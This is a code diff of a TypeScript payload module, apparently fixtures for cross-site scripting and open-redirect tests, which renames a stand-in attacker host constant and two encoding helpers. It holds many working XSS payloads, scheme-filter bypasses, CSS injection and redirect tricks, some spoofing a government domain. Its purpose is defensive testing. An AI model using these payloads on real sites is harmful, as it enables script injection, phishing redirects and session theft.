@@ -1,6 +1,6 @@
 /** What an attacked page must never do: call `__x`, or lead to this host. */
 export const CANARY = "__x";
-export const EVIL = "x.invalid";
+export const ATTACKER_ORIGIN = "x.invalid";
 
 /** What somebody puts into an address or a field. `written`: as it stands in the address, with encodings that no program would write. */
 export type Payload = { text: string; written?: boolean };
@@ -18,8 +18,8 @@ const ELEMENTS = [
   `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
   `<iframe srcdoc="<script>parent.${RUN}</script>">`,
   `<details open ontoggle=${RUN}>`,
-  `<base href=//${EVIL}/>`,
-  `<meta http-equiv=refresh content="0;url=//${EVIL}/">`,
+  `<base href=//${ATTACKER_ORIGIN}/>`,
+  `<meta http-equiv=refresh content="0;url=//${ATTACKER_ORIGIN}/">`,
 ];
 
 const elements = BREAKOUTS.flatMap((end) => ELEMENTS.map((element) => end + element));
@@ -27,7 +27,7 @@ const elements = BREAKOUTS.flatMap((end) => ELEMENTS.map((element) => end + elem
 const moreElements = [
   `<ScRiPt>${RUN}</sCrIpT>`,
   `<script/x>${RUN}</script>`,
-  `<script src=//${EVIL}/x.js></script>`,
+  `<script src=//${ATTACKER_ORIGIN}/x.js></script>`,
   `<script src=data:text/javascript,${RUN}></script>`,
   `<a href=javascript:${RUN}>x</a>`,
   `<form action=javascript:${RUN}><button>x</button></form>`,
@@ -37,7 +37,7 @@ const moreElements = [
   `<video><source onerror=${RUN}></video>`,
   `<input autofocus onfocus=${RUN}>`,
   `<body onpageshow=${RUN}>`,
-  `<link rel=stylesheet href=//${EVIL}/x.css>`,
+  `<link rel=stylesheet href=//${ATTACKER_ORIGIN}/x.css>`,
   `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
   `<math href=javascript:${RUN}>x</math>`,
 ];
@@ -46,7 +46,7 @@ const attributes = ['"', "'", "`", ""].flatMap((quote) => [
   `${quote} onmouseover=${RUN} x=${quote}`,
   `${quote} autofocus onfocus=${RUN} x=${quote}`,
   `${quote}/onpointerover=${RUN}//`,
-  `${quote} style=background:url(//${EVIL}/) x=${quote}`,
+  `${quote} style=background:url(//${ATTACKER_ORIGIN}/) x=${quote}`,
 ]);
 
 const schemes = [
@@ -59,44 +59,44 @@ const schemes = [
   `\u0001javascript:${RUN}`,
   `javascript&colon;${RUN}`,
   `&#106;avascript:${RUN}`,
-  `javascript://${EVIL}/%0a${RUN}`,
+  `javascript://${ATTACKER_ORIGIN}/%0a${RUN}`,
   `javascript:/portal/${RUN}`,
   `vbscript:${RUN}`,
   `data:text/html,<script>${RUN}</script>`,
   `data:text/html;base64,PHNjcmlwdD5fX3goMSk8L3NjcmlwdD4=`,
-  `blob:https://${EVIL}/x`,
-  `view-source:https://${EVIL}/`,
+  `blob:https://${ATTACKER_ORIGIN}/x`,
+  `view-source:https://${ATTACKER_ORIGIN}/`,
   `feed:javascript:${RUN}`,
 ];
 
 const redirects = [
-  `//${EVIL}/`,
-  `///${EVIL}/`,
-  `////${EVIL}/portal/`,
-  `/\\${EVIL}/`,
-  `\\\\${EVIL}/`,
-  `/\t/${EVIL}/`,
-  `https:${EVIL}`,
-  `https:/${EVIL}`,
-  `https:\\\\${EVIL}`,
-  `https://${EVIL}/portal/index`,
-  `https://www.gov.cn@${EVIL}/`,
-  `https://www.gov.cn\\@${EVIL}/`,
-  `https://www.gov.cn.${EVIL}/`,
-  `https://${EVIL}#www.gov.cn`,
-  `https://${EVIL}?.gov.cn`,
-  `https://${EVIL}\\.gov.cn`,
-  `https://${EVIL}%2f.gov.cn`,
-  `https://${EVIL}。gov.cn.${EVIL}`,
-  `/portal/../..//${EVIL}/`,
-  `/portal/..//${EVIL}/`,
-  `/portal/%2e%2e/%2e%2e//${EVIL}/`,
-  `/portal/\\..\\..\\\\${EVIL}/`,
-  `/portal//${EVIL}/../..//${EVIL}`,
-  `/portal@${EVIL}/`,
-  `/portal/.${EVIL}/..//${EVIL}`,
-  `.${EVIL}/`,
-  `@${EVIL}/`,
+  `//${ATTACKER_ORIGIN}/`,
+  `///${ATTACKER_ORIGIN}/`,
+  `////${ATTACKER_ORIGIN}/portal/`,
+  `/\\${ATTACKER_ORIGIN}/`,
+  `\\\\${ATTACKER_ORIGIN}/`,
+  `/\t/${ATTACKER_ORIGIN}/`,
+  `https:${ATTACKER_ORIGIN}`,
+  `https:/${ATTACKER_ORIGIN}`,
+  `https:\\\\${ATTACKER_ORIGIN}`,
+  `https://${ATTACKER_ORIGIN}/portal/index`,
+  `https://www.gov.cn@${ATTACKER_ORIGIN}/`,
+  `https://www.gov.cn\\@${ATTACKER_ORIGIN}/`,
+  `https://www.gov.cn.${ATTACKER_ORIGIN}/`,
+  `https://${ATTACKER_ORIGIN}#www.gov.cn`,
+  `https://${ATTACKER_ORIGIN}?.gov.cn`,
+  `https://${ATTACKER_ORIGIN}\\.gov.cn`,
+  `https://${ATTACKER_ORIGIN}%2f.gov.cn`,
+  `https://${ATTACKER_ORIGIN}。gov.cn.${ATTACKER_ORIGIN}`,
+  `/portal/../..//${ATTACKER_ORIGIN}/`,
+  `/portal/..//${ATTACKER_ORIGIN}/`,
+  `/portal/%2e%2e/%2e%2e//${ATTACKER_ORIGIN}/`,
+  `/portal/\\..\\..\\\\${ATTACKER_ORIGIN}/`,
+  `/portal//${ATTACKER_ORIGIN}/../..//${ATTACKER_ORIGIN}`,
+  `/portal@${ATTACKER_ORIGIN}/`,
+  `/portal/.${ATTACKER_ORIGIN}/..//${ATTACKER_ORIGIN}`,
+  `.${ATTACKER_ORIGIN}/`,
+  `@${ATTACKER_ORIGIN}/`,
 ];
 
 const written = [
@@ -171,11 +171,11 @@ const inScripts = [
 ];
 
 const styles = [
-  `</style><style>*{background:url(//${EVIL}/)}`,
-  `;background:url(//${EVIL}/)`,
+  `</style><style>*{background:url(//${ATTACKER_ORIGIN}/)}`,
+  `;background:url(//${ATTACKER_ORIGIN}/)`,
   `expression(${RUN})`,
-  `@import "//${EVIL}/x.css";`,
-  `}*{background:url(//${EVIL}/)}`,
+  `@import "//${ATTACKER_ORIGIN}/x.css";`,
+  `}*{background:url(//${ATTACKER_ORIGIN}/)}`,
 ];
 
 const mutated = [
@@ -188,7 +188,7 @@ const mutated = [
   `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
 ];
 
-const clobbering = [`<form id=main><input name=action>`, `<a id=location href=//${EVIL}/>`, `<img name=cookie>`];
+const clobbering = [`<form id=main><input name=action>`, `<a id=location href=//${ATTACKER_ORIGIN}/>`, `<img name=cookie>`];
 
 const plain = (texts: readonly string[]): Payload[] => texts.map((text) => ({ text }));
 
@@ -203,10 +203,10 @@ export const PAYLOADS: readonly Payload[] = [
 export const REDIRECTS: readonly Payload[] = [...plain([...redirects, ...schemes]), ...written.map((text) => ({ text, written: true }))];
 
 /** As it stands in an address. */
-export const inAddress = ({ text, written: asIs }: Payload): string => (asIs ? text : encodeURIComponent(text));
+export const urlEncoded = ({ text, written: asIs }: Payload): string => (asIs ? text : encodeURIComponent(text));
 
 /** As a form sends it: what is written for addresses is decoded where that is possible. */
-export function inForm({ text, written: asIs }: Payload): string {
+export function formEncoded({ text, written: asIs }: Payload): string {
   if (!asIs) return text;
   try {
     return decodeURIComponent(text);
